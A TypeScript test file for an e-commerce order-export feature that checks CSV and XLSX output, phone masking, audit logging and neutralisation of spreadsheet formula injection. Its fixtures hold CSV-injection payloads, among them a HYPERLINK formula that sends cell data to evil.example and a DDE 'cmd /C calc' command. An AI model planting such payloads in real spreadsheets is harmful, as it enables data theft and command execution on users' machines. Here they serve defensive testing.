import { parse } from 'csv-parse/sync';
import ExcelJS from 'exceljs';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { minorToDecimal } from '../src/modules/exports/index.ts';
import { formulaSafe } from '../src/modules/exports/order-rows.ts';
import { sampleOrder, startTestApp, type TestApp } from './helpers.ts';

let t: TestApp;

describe('order export', () => {
  beforeAll(async () => {
    t = await startTestApp();
    const orders = Array.from({ length: 230 }, (_, i) =>
      sampleOrder({
        externalOrderId: `EXP-${String(i).padStart(3, '0')}`,
        placedAt: new Date(Date.UTC(2026, 0, 9, 0, 0, 5) + i * 1000).toISOString(),
        paidAt: undefined,
        tags: i % 2 ? ['发票'] : [],
      }),
    );
    const res = await t.as('admin').post('/api/orders:batch', { orders });
    expect(res.body.created, JSON.stringify(res.body).slice(0, 300)).toBe(230);
    const formulas = await t.as('admin').post('/api/orders', formulaOrder());
    expect(formulas.status, JSON.stringify(formulas.body).slice(0, 300)).toBe(201);
  });
  afterAll(async () => t?.close());

  it('converts minor units by integer arithmetic', () => {
    expect(minorToDecimal(8000)).toBe('80.00');
    expect(minorToDecimal(5)).toBe('0.05');
    expect(minorToDecimal(-1234)).toBe('-12.34');
  });

  it('streams every order of the filter as CSV (past one page), masked, and audits it', async () => {
    const res = await t.as('customer_service').get('/api/exports/orders?tag=发票&tz=Asia/Shanghai');
    expect(res.status).toBe(200);
    expect(res.headers['content-type']).toMatch(/text\/csv/);
    expect(res.headers['content-disposition']).toMatch(/attachment; filename="orders-.*\.csv"/);
    const lines = String(res.body)
      .replace(/^\uFEFF/, '')
      .trim()
      .split('\n');
    expect(lines[0]).toMatch(/^order_id,order_no,external_order_id,channel/);
    expect(lines).toHaveLength(1 + 115);
    const first = lines.find((l) => l.includes('EXP-001'))!;
    expect(first).toContain('80.00');
    expect(first).toContain('2026-01-09 08:00:06'); // local time in Asia/Shanghai
    expect(first).toContain('138****5678');
    expect(first).not.toContain('13812345678');
    const audit = await t.as('admin').get('/api/audit?action=order.export');
    expect(audit.body.items).toHaveLength(1);
    expect(audit.body.items[0].summary.filter.tag).toEqual(['发票']);
  });

  it('writes XLSX', async () => {
    const res = await t.app.http.inject({
      method: 'GET',
      url: '/api/exports/orders?format=xlsx&orderNo=EXP-007',
      headers: { authorization: `Bearer ${t.tokens.admin}` },
    });
    expect(res.statusCode).toBe(200);
    const book = new ExcelJS.Workbook();
    await book.xlsx.load(res.rawPayload as unknown as ArrayBuffer);
    const sheet = book.getWorksheet('orders')!;
    expect(sheet.rowCount).toBe(2);
    expect(sheet.getRow(2).getCell(2).value).toMatch(/^OH\d{11}$/);
    expect(sheet.getRow(2).getCell(3).value).toBe('EXP-007');
  });

  it('audits a phone filter masked and as a keyed hash, never in clear', async () => {
    const res = await t.as('admin').get(`/api/exports/orders?phone=${encodeURIComponent('138-1234-5678')}`);
    expect(res.status).toBe(200);
    const rows = await t.database.query<{ summary: unknown }>(
      `SELECT summary FROM audit_log WHERE action = 'order.export' ORDER BY at DESC, id DESC LIMIT 1`,
    );
    const summary = rows[0]!.summary as { filter: { phone: { masked: string; hash: string } } };
    expect(summary.filter.phone.masked).toBe('138****5678');
    expect(summary.filter.phone.hash).toMatch(/^[\w-]{20,}$/);
    const stored = JSON.stringify(rows);
    for (const s of ['13812345678', '1234-5678', '12345678', '+86']) expect(stored).not.toContain(s);
  });

  it('refuses a bad filter before the first byte', async () => {
    const res = await t.as('admin').get('/api/exports/orders?phone=138****5678');
    expect(res.status).toBe(422);
    expect(res.body.code).toBe('PHONE_INVALID');
  });
  it('neutralises text that a spreadsheet would run as a formula, and leaves numbers alone', () => {
    expect(formulaSafe('=HYPERLINK("http://x")')).toBe(`'=HYPERLINK("http://x")`);
    expect(formulaSafe("+cmd|' /C calc'!A0")).toBe(`'+cmd|' /C calc'!A0`);
    expect(formulaSafe('@SUM(1)')).toBe(`'@SUM(1)`);
    expect(formulaSafe('-1+1')).toBe(`'-1+1`);
    expect(formulaSafe('\t=1')).toBe(`'\t=1`);
    expect(formulaSafe('\r=1')).toBe(`'\r=1`);
    expect(formulaSafe('=*****')).toBe(`'=*****`);
    // Amounts, as decimal strings or numbers, stay what they are, negative ones too.
    expect(formulaSafe('-12.34')).toBe('-12.34');
    expect(formulaSafe('80.00')).toBe('80.00');
    expect(formulaSafe(-1234)).toBe(-1234);
    expect(formulaSafe('浙江省')).toBe('浙江省');
    expect(formulaSafe('a=b')).toBe('a=b');
  });

  it('exports formula-like buyer text as quoted text in CSV', async () => {
    const res = await t.as('admin').get('/api/exports/orders?orderNo=EXP-FORMULA');
    expect(res.status).toBe(200);
    const records = parse(String(res.body).replace(/^\uFEFF/, ''), { columns: true }) as Record<
      string,
      string
    >[];
    expect(records).toHaveLength(1);
    const row = records[0]!;
    expect(row['receiver_name']).toMatch(/^'=\*{5,}$/); // the masked name, `=*****…`
    expect(row['province']).toBe(`'${FORMULAS.province}`);
    expect(row['city']).toBe(`'${FORMULAS.city}`);
    expect(row['district']).toBe(`'${FORMULAS.district}`);
    expect(row['tags']).toBe(`'${FORMULAS.tags.join('|')}`);
    expect(row['total']).toBe('80.00');
    // In the file itself every neutralised field is quoted; no field starts with a formula character.
    const text = String(res.body);
    expect(text).toMatch(/"'=\*{5,}"/);
    expect(text).toContain(`"'-1+1|@SUM(1)"`);
    expect(text).not.toMatch(/(^|,)[=+@\t\r]/m);
    expect(text).not.toMatch(/(^|,)-(?!\d+(\.\d+)?(,|$))/m);
  });

  it('exports formula-like buyer text as text in XLSX, and amounts as numbers', async () => {
    const res = await t.app.http.inject({
      method: 'GET',
      url: '/api/exports/orders?format=xlsx&orderNo=EXP-FORMULA',
      headers: { authorization: `Bearer ${t.tokens.admin}` },
    });
    expect(res.statusCode).toBe(200);
    const book = new ExcelJS.Workbook();
    await book.xlsx.load(res.rawPayload as unknown as ArrayBuffer);
    const sheet = book.getWorksheet('orders')!;
    const header = (sheet.getRow(1).values as unknown[]).slice(1) as string[];
    const cell = (name: string) => sheet.getRow(2).getCell(header.indexOf(name) + 1);
    expect(cell('receiver_name').value).toMatch(/^'=\*{5,}$/);
    expect(cell('province').value).toBe(`'${FORMULAS.province}`);
    expect(cell('city').value).toBe(`'${FORMULAS.city}`);
    expect(cell('district').value).toBe(`'${FORMULAS.district}`);
    expect(cell('tags').value).toBe(`'${FORMULAS.tags.join('|')}`);
    for (let c = 1; c <= header.length; c++) {
      const v = sheet.getRow(2).getCell(c).value;
      // No formula cells, and no text cell that starts like one.
      expect(typeof v === 'object' && v !== null && 'formula' in v, header[c - 1]).toBe(false);
      if (typeof v === 'string') expect(v, header[c - 1]).not.toMatch(/^[=+\-@\t\r]/);
    }
    expect(cell('total').value).toBe(80);
    expect(cell('discount').value).toBe(20);
    expect(cell('total').numFmt).toBe('0.00');
  });
});

const FORMULAS = {
  name: '=HYPERLINK("http://evil.example/?d="&A1,"点此")',
  province: '=HYPERLINK("http://evil.example","x")',
  city: "+cmd|' /C calc'!A0",
  district: '@SUM(1)',
  tags: ['-1+1', '@SUM(1)'],
};

function formulaOrder() {
  return sampleOrder({
    externalOrderId: 'EXP-FORMULA',
    placedAt: '2026-02-01T00:00:00Z',
    receiver: {
      name: FORMULAS.name,
      phone: '13812345678',
      province: FORMULAS.province,
      city: FORMULAS.city,
      district: FORMULAS.district,
      detail: '=1+1 号',
    },
    tags: FORMULAS.tags,
  });
}
